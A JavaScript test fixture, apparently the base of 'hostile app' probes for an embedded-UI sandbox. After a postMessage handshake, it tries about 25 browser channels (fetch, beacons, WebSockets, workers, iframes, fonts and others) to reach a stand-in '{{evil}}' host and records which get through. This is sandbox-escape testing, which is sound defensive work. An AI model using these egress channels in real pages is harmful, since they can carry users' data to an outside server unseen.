// What every hostile app here begins with: a way to speak, and a table of what came of each attempt.
const EVIL = "{{evil}}";
const HOST = "{{host}}";
const rows = {};
const heard = [];
const strays = [];
const waiting = new Map();
let last = 1000;
let done = false;

const say = (message) => parent.postMessage(message, "*");
const pause = (ms) => new Promise((enough) => setTimeout(enough, ms));
const notify = (method, params) => say({ jsonrpc: "2.0", method, params });

addEventListener("message", ({ source, data }) => {
  if (source !== parent) return void strays.push(data);
  heard.push(data);
  if (data?.method === "ui/resource-teardown") say({ jsonrpc: "2.0", id: data.id, result: {} });
  const key = JSON.stringify(data?.id);
  if (!data?.method) waiting.get(key)?.(data);
});

/** Sends a request; resolves to the whole response, or to what says that there was none. */
function ask(method, params, id = ++last) {
  return new Promise((resolve) => {
    waiting.set(JSON.stringify(id), resolve);
    setTimeout(resolve, 3000, { silence: true });
    say({ jsonrpc: "2.0", id, method, params });
  });
}

/** What a response comes to. */
const outcome = (answer) => (answer.silence ? "no answer" : answer.error ? `error ${answer.error.code}` : `result ${JSON.stringify(answer.result)}`);

/** Tries something and writes down what happened. */
async function attempt(name, work) {
  try {
    rows[name] = String(await Promise.race([work(), pause(5000).then(() => "nothing")]));
  } catch (problem) {
    rows[name] = `${problem.name}`;
  }
}

async function handshake() {
  const answer = await ask("ui/initialize", {
    appInfo: { name: "attacker", version: "1" }, protocolVersion: "2026-01-26", appCapabilities: { availableDisplayModes: ["inline"] },
  });
  notify("ui/notifications/initialized", {});
  for (let n = 0; n < 100 && !heard.some((one) => one?.method === "ui/notifications/tool-result"); n += 1) await pause(50);
  return answer.result;
}

/** Everything that makes a browser ask another origin for something. */
const REACHES = {
  fetch: () => fetch(`${EVIL}/fetch`),
  redirect: () => fetch(`${EVIL}/redirect`),
  "fetch no-cors": () => fetch(`${EVIL}/nocors`, { mode: "no-cors" }),
  "fetch keepalive": () => fetch(`${EVIL}/keepalive`, { mode: "no-cors", keepalive: true }),
  XMLHttpRequest: () => loads(Object.assign(new XMLHttpRequest(), {}), (xhr) => (xhr.open("GET", `${EVIL}/xhr`), xhr.send())),
  image: () => loads(new Image(), (image) => (image.src = `${EVIL}/image`)),
  script: () => adds("script", { src: `${EVIL}/script` }),
  module: () => import(`${EVIL}/module`),
  style: () => adds("link", { rel: "stylesheet", href: `${EVIL}/style` }),
  prefetch: () => adds("link", { rel: "prefetch", href: `${EVIL}/prefetch` }),
  preload: () => adds("link", { rel: "preload", as: "image", href: `${EVIL}/preload` }),
  manifest: () => adds("link", { rel: "manifest", href: `${EVIL}/manifest` }),
  icon: () => adds("link", { rel: "icon", href: `${EVIL}/icon` }),
  iframe: () => adds("iframe", { src: `${EVIL}/iframe` }),
  object: () => adds("object", { data: `${EVIL}/object` }),
  embed: () => adds("embed", { src: `${EVIL}/embed` }),
  video: () => adds("video", { src: `${EVIL}/video` }),
  "css image": () => adds("div", { style: `background: url(${EVIL}/css); width: 9px; height: 9px` }),
  font: () => new FontFace("f", `url(${EVIL}/font)`).load(),
  worker: () => loads(new Worker(`${EVIL}/worker`)),
  "blob worker": () => loads(new Worker(URL.createObjectURL(new Blob([`fetch("${EVIL}/blob", { mode: "no-cors" })`])))),
  "srcdoc frame": () => adds("iframe", { srcdoc: `<img src="${EVIL}/srcdoc"><script>fetch("${EVIL}/srcdoc-fetch", { mode: "no-cors" })<\/script>` }),
  WebSocket: () => loads(new WebSocket(`${EVIL.replace("http", "ws")}/socket`)),
  EventSource: () => loads(new EventSource(`${EVIL}/events`)),
  beacon: () => (navigator.sendBeacon(`${EVIL}/beacon`, "x") ? "queued" : "refused"),
  "service worker": () => navigator.serviceWorker.register("/openai.js"),
};

/** Puts an element in the document and says how its loading went. */
function adds(tag, attributes) {
  const element = document.createElement(tag);
  return loads(element, () => {
    for (const pair of Object.entries(attributes)) element.setAttribute(...pair);
    document.body.append(element);
  });
}

function loads(thing, start = () => {}) {
  return new Promise((resolve) => {
    for (const event of ["load", "open", "error", "message"]) thing.addEventListener(event, () => resolve(event));
    setTimeout(resolve, 1500, "nothing");
    start(thing);
  });
}
